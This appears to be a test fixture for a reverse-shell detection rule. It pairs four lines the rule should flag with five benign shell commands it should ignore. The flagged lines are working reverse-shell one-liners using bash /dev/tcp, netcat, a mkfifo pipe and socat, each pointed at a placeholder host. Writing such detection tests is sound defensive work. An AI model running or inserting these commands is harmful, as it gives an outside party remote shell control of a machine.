#!/bin/bash
# ruleid: execution/reverse-shell-bash
bash -i >& /dev/tcp/monitor.example.invalid/4444 0>&1
# ruleid: execution/reverse-shell-bash
nc monitor.example.invalid 4444 -e /bin/sh
# ruleid: execution/reverse-shell-bash
rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc monitor.example.invalid 9001 > /tmp/p
# ruleid: execution/reverse-shell-bash
socat tcp:monitor.example.invalid:443 exec:/bin/bash,pty,stderr
# ok: execution/reverse-shell-bash
nc -z localhost 80
# ok: execution/reverse-shell-bash
exec 3<>/dev/tcp/localhost/80
# ok: execution/reverse-shell-bash
mkfifo /tmp/log
# ok: execution/reverse-shell-bash
socat - UNIX-CONNECT:/run/reports.sock
# ok: execution/reverse-shell-bash
bash -i
